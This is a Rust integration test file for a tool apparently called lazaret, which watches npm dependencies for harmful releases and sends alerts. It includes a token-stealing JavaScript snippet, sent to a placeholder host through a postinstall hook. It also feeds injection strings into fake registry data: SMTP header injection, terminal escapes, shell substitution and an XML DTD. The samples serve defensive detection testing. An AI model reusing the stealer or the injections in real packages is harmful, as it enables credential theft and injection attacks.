//! `lazaret watch` from outside, against the fake npm. Time is moved in `project/src/watch/tests.rs`; here each look is a run.

mod receivers;

use crate::harness::{Home, Said, malicious, wait_until};
use lazaret_testing::{FakeNpm, Fault, Npm, Release};
use receivers::{Hook, Smtp};
use serde_json::{Value, json};
use std::path::PathBuf;

const STEALER: &str = "const https = require('https');\nhttps.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN);\n";

/// An inert release that would be blocked.
fn harmful(release: Release) -> Release {
    recent(release)
        .script("postinstall", "node setup.js")
        .file("setup.js", STEALER)
}

/// A release of ten minutes ago, by qix.
fn recent(release: Release) -> Release {
    let at = jiff::Timestamp::now() - jiff::SignedDuration::from_mins(10);
    release
        .published(&format!("{at:.3}"))
        .manifest_field("_npmUser", json!({ "name": "qix" }))
}

fn npm(names: &[&str]) -> FakeNpm {
    let mut npm = Npm::new();
    for (number, name) in names.iter().enumerate() {
        // Not the same day each: who publishes together has a habit.
        let days = 60 + 3 * i64::try_from(number).unwrap();
        let at = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(24 * days);
        let at = format!("{at:.3}");
        npm = npm.package(name, |package| {
            package.version("1.0.0", |release| {
                release
                    .published(&at)
                    .manifest_field("_npmUser", json!({ "name": "qix" }))
            })
        });
    }
    npm.start_blocking()
}

/// A project that asks for all of these; `log` asks for the first.
fn lockfile(names: &[&str]) -> String {
    let mut packages = json!({});
    let mut asked = json!({});
    for name in names {
        asked[name] = json!("^1.0.0");
        packages[format!("node_modules/{name}")] = json!({
            "version": "1.0.0", "resolved": format!("https://registry.example/{name}/-/{name}-1.0.0.tgz"),
            "integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
        });
    }
    packages[""] = json!({ "name": "ship", "dependencies": asked });
    if let [first, .., last] = names {
        packages[format!("node_modules/{last}")]["dependencies"] = json!({ *first: "~1.0.0" });
    }
    json!({ "name": "ship", "lockfileVersion": 3, "packages": packages }).to_string()
}

fn home(names: &[&str]) -> Home {
    let home = Home::new();
    home.write("package-lock.json", lockfile(names));
    home
}

fn look(home: &Home, npm: &FakeNpm, more: &[&str]) -> Said {
    look_with(home, npm, more, &[])
}

fn look_with(home: &Home, npm: &FakeNpm, more: &[&str], variables: &[(&str, &str)]) -> Said {
    let url = npm.url();
    let mut arguments = vec!["watch", "--once", "--data", "data", "--upstream", &url];
    arguments.extend(more);
    if !more.contains(&"--format") {
        arguments.extend(["--format", "json"]);
    }
    home.run_with(&arguments, variables)
}

fn events(said: &Said) -> Vec<Value> {
    let line =
        |line: &str| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
    said.stdout.lines().map(line).collect()
}

/// What is remembered.
fn state(home: &Home) -> Value {
    serde_json::from_slice(&std::fs::read(state_file(home)).unwrap()).unwrap()
}

fn state_file(home: &Home) -> PathBuf {
    let folder = std::fs::read_dir(home.path().join("data/watch")).unwrap();
    let mut files = folder.map(|entry| entry.unwrap().path());
    files
        .find(|path| path.extension().is_some_and(|end| end == "json"))
        .unwrap()
}

#[test]
fn a_harmful_version_is_told_at_once_with_who_would_get_it_and_when() {
    let npm = npm(&["chalk", "debug"]);
    let home = home(&["chalk", "debug"]);
    let first = look(&home, &npm, &[]);
    assert_eq!(
        (first.code, first.stdout.as_str()),
        (Some(0), ""),
        "{}",
        first.stderr
    );
    npm.publish("chalk", "1.0.1", harmful);
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(1), "{}{}", said.stdout, said.stderr);
    let events = events(&said);
    assert_eq!(events.len(), 1, "{}", said.stdout);
    let event = &events[0];
    assert_eq!(
        (&event["schema"], &event["event"], &event["urgency"]),
        (&json!(1), &json!("new-version"), &json!("high"))
    );
    assert_eq!(
        (&event["package"], &event["version"], &event["before"]),
        (&json!("chalk"), &json!("1.0.1"), &json!("1.0.0"))
    );
    assert_eq!(event["outcome"], "block");
    assert_eq!(event["publisher"], "qix");
    let rules: Vec<&str> = event["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| one["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"credential-exfiltration"), "{rules:?}");
    let receivers = event["receivers"].as_array().unwrap();
    let told: Vec<String> = receivers
        .iter()
        .map(|one| format!("{} {}", one["dependent"], one["range"]))
        .collect();
    assert_eq!(told, ["\"ship\" \"^1.0.0\"", "\"debug@1.0.0\" \"~1.0.0\""]);
    let time = |value: &Value| value.as_str().unwrap().parse::<jiff::Timestamp>().unwrap();
    let wait = time(&event["cooldown_until"]).duration_since(time(&event["published"]));
    assert!(
        wait >= jiff::SignedDuration::from_hours(72) && wait < jiff::SignedDuration::from_hours(73),
        "{wait}"
    );
    // Told once; what was inspected is kept by content.
    let again = look(&home, &npm, &[]);
    assert_eq!((again.code, again.stdout.as_str()), (Some(0), ""));
}

#[test]
fn people_read_the_same_in_words() {
    let npm = npm(&["chalk", "debug"]);
    let home = home(&["chalk", "debug"]);
    look(&home, &npm, &[]);
    npm.publish("chalk", "1.0.1", |release| {
        harmful(release).manifest_field("_npmUser", json!({ "name": "\u{202e}xiq\u{1b}[2J" }))
    });
    let said = look(&home, &npm, &["--format", "human"]);
    assert_eq!(said.code, Some(1), "{}", said.stderr);
    for part in [
        "[lazaret] ship: chalk@1.0.1 would be blocked",
        "by \\u{202e}xiq\\u{1b}[2J, in cooldown until ",
        "in use here: 1.0.0",
        "who would get it: ship (^1.0.0, has 1.0.0), debug@1.0.0 (~1.0.0, has 1.0.0)",
        "lazaret diff chalk@1.0.0 chalk@1.0.1",
        "credential-exfiltration",
    ] {
        assert!(said.stdout.contains(part), "{part}: {}", said.stdout);
    }
    assert!(
        !said.stdout.contains(['\u{202e}', '\u{1b}']),
        "{}",
        said.stdout
    );
    assert!(
        said.stderr
            .contains("following 2 packages of 1 lockfile in [home]"),
        "{}",
        said.stderr
    );
}

#[test]
fn harmless_versions_are_only_gathered_and_unchanged_documents_cost_nothing() {
    let npm = npm(&["chalk", "debug"]);
    let home = home(&["chalk", "debug"]);
    look(&home, &npm, &[]);
    npm.publish("chalk", "1.0.1", |release| {
        recent(release).file("index.js", "module.exports = 2;\n")
    });
    npm.forget();
    let said = look(&home, &npm, &[]);
    assert_eq!(
        (said.code, said.stdout.as_str()),
        (Some(0), ""),
        "{}",
        said.stderr
    );
    let asked = npm.requests_to("/debug");
    assert_eq!(asked.len(), 1);
    assert_eq!(asked[0].status, 304);
    assert!(asked[0].header("if-none-match").is_some());
    let quiet = state(&home)["quiet"]["versions"].clone();
    assert_eq!(quiet[0]["package"], "chalk");
    assert_eq!(
        (&quiet[0]["outcome"], &quiet[0]["receivers"]),
        (&json!("allow"), &json!(2))
    );
    npm.forget();
    look(&home, &npm, &[]);
    let statuses: Vec<u16> = npm
        .requests()
        .iter()
        .map(|request| request.status)
        .collect();
    assert_eq!(statuses, [304, 304], "nothing was fetched");
}

#[test]
fn a_burst_is_one_alarm() {
    let names = ["chalk", "debug", "color", "ansi"];
    let npm = npm(&names);
    let home = home(&names);
    look(&home, &npm, &[]);
    for name in names {
        npm.publish(
            name,
            "1.0.1",
            if name == "chalk" { harmful } else { recent },
        );
    }
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(1), "{}{}", said.stdout, said.stderr);
    let events = events(&said);
    assert_eq!(events.len(), 1, "{}", said.stdout);
    let burst = &events[0];
    assert_eq!(
        (&burst["event"], &burst["urgency"]),
        (&json!("burst"), &json!("critical"))
    );
    assert_eq!(
        (&burst["by"], &burst["who"]),
        (&json!("publisher"), &json!("qix"))
    );
    assert_eq!(burst["packages"].as_array().unwrap().len(), 4);
    assert_eq!(burst["versions"][0]["package"], "chalk");
    assert_eq!(burst["versions"][0]["outcome"], "block");
}

#[test]
fn a_registry_that_limits_requests_is_left_alone() {
    let npm = npm(&["chalk", "debug"]);
    let home = home(&["chalk", "debug"]);
    look(&home, &npm, &[]);
    npm.fault_when(|_| true, Fault::rate_limited("3600"));
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(4), "{}{}", said.stdout, said.stderr);
    assert!(
        said.stderr.contains("limits our requests"),
        "{}",
        said.stderr
    );
    npm.forget();
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(4));
    assert!(
        said.stderr.contains("is left alone until"),
        "{}",
        said.stderr
    );
    assert!(npm.requests().is_empty(), "for an hour it is not asked");
}

#[test]
fn no_more_is_asked_than_the_budget_allows() {
    let npm = npm(&["chalk", "debug"]);
    let home = home(&["chalk", "debug"]);
    let said = look(&home, &npm, &["--budget", "1"]);
    assert_eq!(said.code, Some(4), "{}", said.stderr);
    let expected = "1 of 2 packages were not asked about";
    assert!(said.stderr.contains(expected), "{}", said.stderr);
    assert_eq!(npm.requests().len(), 1);
    // The interval is not over.
    assert_eq!(look(&home, &npm, &["--budget", "1"]).code, Some(4));
    assert_eq!(npm.requests().len(), 1);
    assert_eq!(look(&home, &npm, &["--budget", "9"]).code, Some(0));
}

#[test]
fn a_registry_that_is_down_is_said_to_be_and_nothing_is_forgotten() {
    for fault in [Some(Fault::status(503)), None] {
        let names = ["chalk", "debug", "color"];
        let npm = npm(&names);
        let home = home(&names);
        look(&home, &npm, &[]);
        let before = state(&home)["packages"]["chalk"]["versions"].clone();
        match fault {
            Some(fault) => npm.fault_when(|_| true, fault),
            None => npm.offline(),
        }
        let said = look(&home, &npm, &[]);
        assert_eq!(said.code, Some(4), "{}{}", said.stdout, said.stderr);
        assert!(
            said.stderr.contains("503") || said.stderr.contains("cannot be reached"),
            "{}",
            said.stderr
        );
        let after = state(&home);
        assert_eq!(after["packages"]["chalk"]["versions"], before);
        assert_eq!(
            after["pause"]["failures"].as_u64().unwrap_or_default(),
            1,
            "{}",
            after["pause"]
        );
    }
}

#[test]
fn a_registry_that_stays_down_is_told_and_so_is_its_return() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    look(&home, &npm, &[]);
    npm.offline();
    let mut told = Vec::new();
    for look_number in 1..=4 {
        let said = look(&home, &npm, &[]);
        assert_eq!(said.code, Some(4), "{}", said.stderr);
        told.extend(events(&said).into_iter().map(|event| (look_number, event)));
        // Its pause goes by.
        let mut seen = state(&home);
        assert_eq!(seen["pause"]["failures"], json!(look_number));
        seen["pause"]["until"] = json!("2020-01-01T00:00:00Z");
        std::fs::write(state_file(&home), seen.to_string()).unwrap();
    }
    assert_eq!(told.len(), 1, "{told:?}");
    let (look_number, event) = &told[0];
    assert_eq!(*look_number, 3);
    assert_eq!(
        (&event["event"], &event["with"], &event["over"]),
        (&json!("trouble"), &json!("registry"), &json!(false))
    );
    npm.online();
    npm.publish("chalk", "1.0.1", harmful);
    let said = look(&home, &npm, &[]);
    let mut kinds: Vec<String> = events(&said)
        .iter()
        .map(|event| format!("{} {}", event["event"], event["over"]))
        .collect();
    kinds.sort();
    assert_eq!(
        kinds,
        ["\"new-version\" null", "\"trouble\" true"],
        "nothing was missed"
    );
}

#[test]
fn an_advisory_about_what_is_in_use_ends_with_5() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    look(&home, &npm, &[]);
    home.write(
        "osv/MAL-2026-1.json",
        malicious("MAL-2026-1", "chalk", &["1.0.0"]),
    );
    let imported = home.run(&["advisories", "import", "osv", "--data", "data"]);
    assert_eq!(imported.code, Some(0), "{}", imported.stderr);
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(5), "{}{}", said.stdout, said.stderr);
    let events = events(&said);
    assert_eq!(
        (&events[0]["event"], &events[0]["malicious"]),
        (&json!("advisory"), &json!(true))
    );
    assert_eq!(events[0]["ids"][0], "MAL-2026-1");
    let again = look(&home, &npm, &[]);
    assert_eq!(
        (again.code, again.stdout.as_str()),
        (Some(5), ""),
        "still in use, told once"
    );
}

#[test]
fn webhooks_get_the_event_signed() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    let hook = Hook::start();
    let url = hook.url();
    let secret = [("LAZARET_WEBHOOK_SECRET", "a secret of our own")];
    let said = look_with(&home, &npm, &["--webhook", &url], &[]);
    assert_eq!(said.code, Some(2), "without a secret: {}", said.stderr);
    look_with(&home, &npm, &["--webhook", &url], &secret);
    npm.publish("chalk", "1.0.1", harmful);
    hook.refuse(true);
    let said = look_with(&home, &npm, &["--webhook", &url], &secret);
    assert_eq!(said.code, Some(4), "{}", said.stderr);
    assert!(
        said.stderr.contains("answered 500") && said.stderr.contains("tried again"),
        "{}",
        said.stderr
    );
    hook.refuse(false);
    // It is owed, and comes with the next look; the terminal has it already.
    let said = look_with(&home, &npm, &["--webhook", &url], &secret);
    assert_eq!(
        (said.code, said.stdout.as_str()),
        (Some(1), ""),
        "{}",
        said.stderr
    );
    let got = hook.messages();
    assert_eq!(got.len(), 2);
    assert_eq!(got[0].body, got[1].body);
    let message = &got[1];
    assert!(message.is_signed_with("a secret of our own"));
    assert!(!message.is_signed_with("another secret, not ours"));
    let body: Value = serde_json::from_str(&message.body).unwrap();
    assert_eq!(body["event"], "new-version");
    assert_eq!(message.header("x-lazaret-event"), "new-version");
    assert_eq!(
        message.header("x-lazaret-delivery"),
        body["id"].as_str().unwrap()
    );
}

#[test]
fn a_killed_watch_tells_what_it_had_not_told() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    let hook = Hook::start();
    let url = hook.url();
    let config =
        format!("[[webhooks]]\nname = \"ops\"\nurl = \"{url}\"\nsecret-file = \"secret\"\n");
    home.write("secret", "a secret of our own\n");
    home.write("lazaret.toml", config);
    look(&home, &npm, &[]);
    npm.publish("chalk", "1.0.1", harmful);
    hook.hang(true);
    // An hour goes by.
    let mut seen = state(&home);
    seen["packages"]["chalk"]["next_at"] = json!("2020-01-01T00:00:00Z");
    std::fs::write(state_file(&home), seen.to_string()).unwrap();
    let registry = npm.url();
    let mut child = home.spawn(&[
        "watch",
        "--data",
        "data",
        "--upstream",
        &registry,
        "--interval",
        "1",
    ]);
    // It was remembered before anybody was told; now it waits for the receiver.
    wait_until("the webhook is being told", || !hook.messages().is_empty());
    // Two of them would tell everything twice.
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(2), "{}", said.stderr);
    assert!(
        said.stderr.contains("another `lazaret watch`"),
        "{}",
        said.stderr
    );
    child.kill().unwrap();
    child.wait().unwrap();
    hook.hang(false);
    look(&home, &npm, &[]);
    let got = hook.messages();
    assert_eq!(got.len(), 2, "told again");
    assert_eq!(got[0].body, got[1].body, "with the same id");
    assert_eq!(state(&home)["letters"], json!([]));
    let left: Vec<_> = std::fs::read_dir(home.path().join("data/watch"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    assert_eq!(left.len(), 2, "the state and its lock: {left:?}");
}

#[test]
fn a_full_disk_keeps_what_was_remembered_and_is_said() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    look(&home, &npm, &[]);
    let before = state(&home);
    npm.publish("chalk", "1.0.1", harmful);
    let mut due = before.clone();
    due["packages"]["chalk"]["next_at"] = json!("2020-01-01T00:00:00Z");
    std::fs::write(state_file(&home), due.to_string()).unwrap();
    let url = npm.url();
    let arguments = [
        "watch",
        "--once",
        "--data",
        "data",
        "--upstream",
        &url,
        "--format",
        "json",
    ];
    let said = home.run_on_full_disk(0, &arguments);
    assert_eq!(said.code, Some(4), "{}{}", said.stdout, said.stderr);
    assert!(said.stderr.contains("cannot write"), "{}", said.stderr);
    assert_eq!(state(&home), due, "the old state is whole");
    // With room again, what was new then is told.
    let said = look(&home, &npm, &[]);
    let new = events(&said);
    assert!(
        new.iter().any(|event| event["version"] == "1.0.1"),
        "{}{}",
        said.stdout,
        said.stderr
    );
}

#[test]
fn what_could_not_be_shown_is_not_told() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    look(&home, &npm, &[]);
    npm.publish("chalk", "1.0.1", harmful);
    let mut due = state(&home);
    due["packages"]["chalk"]["next_at"] = json!("2020-01-01T00:00:00Z");
    std::fs::write(state_file(&home), due.to_string()).unwrap();
    let url = npm.url();
    let arguments = ["watch", "--once", "--data", "data", "--upstream", &url];
    let said = home.run_into("/dev/full", &arguments);
    assert_eq!(said.code, Some(4), "{}", said.stderr);
    assert!(
        said.stderr.contains("terminal was not told"),
        "{}",
        said.stderr
    );
    let said = look(&home, &npm, &[]);
    let new = events(&said);
    assert!(
        new.iter().any(|event| event["version"] == "1.0.1"),
        "{}{}",
        said.stdout,
        said.stderr
    );
}

#[test]
fn a_damaged_state_is_learned_anew_and_said() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    look(&home, &npm, &["--state", "seen.json"]);
    home.write("seen.json", "{\"form\": 1, \"pack");
    let said = look(&home, &npm, &["--state", "seen.json"]);
    assert_eq!(said.code, Some(0), "{}", said.stderr);
    assert!(
        said.stderr.contains("is not what a watch writes"),
        "{}",
        said.stderr
    );
    npm.publish("chalk", "1.0.1", harmful);
    assert_eq!(look(&home, &npm, &["--state", "seen.json"]).code, Some(1));
}

#[test]
fn e_mail_is_plain_text_to_those_who_are_named() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    let smtp = Smtp::start();
    let config = format!(
        "[watch.mail]\nserver = \"{}\"\ntls = \"none\"\nfrom = \"Lazaret <lazaret@ours.example>\"\nto = [\"security@ours.example\"]\n\
         user = \"lazaret\"\npassword-variable = \"SMTP_PASSWORD\"\n",
        smtp.address()
    );
    home.write("lazaret.toml", config);
    let variables = [("SMTP_PASSWORD", "of the mail")];
    let more = ["--mail-to", "ada@ours.example"];
    assert_eq!(
        look_with(&home, &npm, &more, &[]).code,
        Some(2),
        "the variable is not set"
    );
    look_with(&home, &npm, &more, &variables);
    npm.publish("chalk", "1.0.1", |release| {
        harmful(release).manifest_field(
            "_npmUser",
            json!({ "name": "qix\r\n.\r\nRCPT TO:<thief@code.invalid>" }),
        )
    });
    let said = look_with(&home, &npm, &more, &variables);
    assert_eq!(said.code, Some(1), "{}", said.stderr);
    let sent = smtp.sent();
    assert_eq!(sent.len(), 1);
    assert_eq!(
        sent[0].to,
        ["<security@ours.example>", "<ada@ours.example>"]
    );
    assert!(sent[0].has_logged_in);
    let text = &sent[0].text;
    assert!(
        text.contains("Subject: [lazaret] ship: chalk@1.0.1 would be blocked"),
        "{text}"
    );
    assert!(
        text.contains("who would get it") && !text.contains('\u{1b}'),
        "{text}"
    );
}

#[test]
fn e_mail_is_not_sent_in_the_clear_unless_that_is_asked_for() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    let smtp = Smtp::start();
    let config = format!(
        "[watch.mail]\nserver = \"{}\"\nfrom = \"lazaret@ours.example\"\nto = [\"security@ours.example\"]\n",
        smtp.address()
    );
    home.write("lazaret.toml", config);
    look(&home, &npm, &[]);
    npm.publish("chalk", "1.0.1", harmful);
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(4), "{}{}", said.stdout, said.stderr);
    assert!(said.stderr.contains("mail was not told"), "{}", said.stderr);
    assert!(smtp.sent().is_empty());
}

#[test]
fn what_was_inspected_once_is_known_by_its_bytes() {
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    for state in ["one.json", "two.json"] {
        look(&home, &npm, &["--state", state]);
    }
    npm.publish("chalk", "1.0.1", harmful);
    let first = look(&home, &npm, &["--state", "one.json"]);
    npm.forget();
    let second = look(&home, &npm, &["--state", "two.json"]);
    assert_eq!(second.code, Some(1), "{}", second.stderr);
    let told = |said: &Said| {
        let mut event = events(said).remove(0);
        // The only members that tell of the moment.
        event["at"] = Value::Null;
        event["cooldown_until"] = Value::Null;
        event
    };
    assert_eq!(told(&first), told(&second));
    let paths: Vec<String> = npm
        .requests()
        .into_iter()
        .map(|request| request.path)
        .collect();
    assert!(
        !paths.iter().any(|path| path.ends_with(".tgz")),
        "{paths:?}"
    );
}

#[test]
fn sources_give_hints_and_hostile_ones_are_refused() {
    let npm = npm(&["chalk", "debug"]);
    let home = home(&["chalk", "debug"]);
    let feed = |items: &str| {
        format!("<rss version=\"2.0\"><channel><title>news</title>{items}</channel></rss>")
    };
    let item = |number: u8, title: &str| {
        format!(
            "<item><guid>{number}</guid><title>{title}</title><link>https://news.example/{number}</link></item>"
        )
    };
    home.write(
        "lazaret.toml",
        "[[watch.sources]]\nname = \"news\"\nkind = \"rss\"\npath = \"news.xml\"\n[[watch.sources]]\nname = \"early\"\nkind = \"osv\"\npath = \"early\"\n",
    );
    home.write("news.xml", feed(&item(1, "chalk@5.6.1 is old news")));
    home.write(
        "early/MAL-2026-7.json",
        malicious("MAL-2026-7", "other", &["1.0.0"]),
    );
    let said = look(&home, &npm, &[]);
    assert_eq!(
        (said.code, said.stdout.as_str()),
        (Some(0), ""),
        "{}",
        said.stderr
    );
    let news = [
        item(1, "chalk@5.6.1 is old news"),
        item(2, "Worm in `debug`\u{202e}"),
        item(3, "How to debug with chalk"),
    ];
    home.write("news.xml", feed(&news.concat()));
    home.write(
        "early/MAL-2026-8.json",
        malicious("MAL-2026-8", "chalk", &["1.0.0"]),
    );
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(1), "hints are no verdicts: {}", said.stderr);
    let mut told: Vec<String> = events(&said)
        .iter()
        .map(|event| {
            format!(
                "{} {} {} {}",
                event["event"], event["urgency"], event["source"], event["packages"]
            )
        })
        .collect();
    told.sort();
    assert_eq!(
        told,
        [
            "\"hint\" \"normal\" \"early\" [\"chalk@1.0.0\"]",
            "\"hint\" \"normal\" \"news\" [\"debug\"]",
        ]
    );
    assert!(!said.stdout.contains('\u{202e}'), "{}", said.stdout);
    home.write(
        "news.xml",
        "<!DOCTYPE rss [<!ENTITY a \"b\">]><rss><channel/></rss>",
    );
    let said = look(&home, &npm, &[]);
    assert_eq!((said.code, said.stdout.as_str()), (Some(4), ""));
    assert!(
        said.stderr.contains("document type definition"),
        "{}",
        said.stderr
    );
}

#[cfg(unix)]
#[test]
fn a_notification_is_one_argument_without_markup() {
    use std::os::unix::fs::PermissionsExt;
    let npm = npm(&["chalk"]);
    let home = home(&["chalk"]);
    home.write(
        "package-lock.json",
        lockfile(&["chalk"]).replace("ship", "<b>$(ship)</b>"),
    );
    let said = look(&home, &npm, &["--desktop", "true"]);
    assert_eq!(said.code, Some(2), "{}", said.stderr);
    let program = home.write(
        "bin/notify-send",
        "#!/bin/sh\nfor one in \"$@\"; do printf '%s\\n' \"$one\"; done >> shown\n",
    );
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    look(&home, &npm, &["--desktop", "true"]);
    npm.publish("chalk", "1.0.1", harmful);
    let said = look(&home, &npm, &["--desktop", "true"]);
    assert_eq!(said.code, Some(1), "{}", said.stderr);
    let shown = std::fs::read_to_string(home.path().join("shown")).unwrap();
    let lines: Vec<&str> = shown.lines().collect();
    assert_eq!(
        lines[..5],
        [
            "--app-name=lazaret",
            "--urgency",
            "critical",
            "--",
            "lazaret"
        ]
    );
    assert_eq!(
        lines[5..],
        ["[lazaret] &lt;b&gt;$(ship)&lt;/b&gt;: chalk@1.0.1 would be blocked"]
    );
}

#[test]
fn nothing_to_follow_ends_with_3() {
    let npm = npm(&["chalk"]);
    let home = Home::new();
    let said = look(&home, &npm, &[]);
    assert_eq!(said.code, Some(3), "{}", said.stderr);
    home.write("bun.lockb", "x");
    assert_eq!(look(&home, &npm, &[]).code, Some(3));
    assert_eq!(look(&home, &npm, &["missing"]).code, Some(2));
}
